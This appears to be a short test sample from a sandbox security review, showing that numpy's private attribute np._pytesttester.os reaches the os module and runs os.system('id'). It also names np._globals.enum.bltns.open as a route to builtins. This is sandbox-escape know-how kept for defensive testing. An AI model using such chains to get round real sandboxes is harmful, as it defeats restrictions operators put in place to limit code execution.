# Source: public sandbox review: np._pytesttester.os.system and np._globals.enum.bltns.open (private-attribute chains)
# Family: module-attribute
# What: numpy._pytesttester.os reaches os through a private attribute
import numpy as np

np._pytesttester.os.system("id")
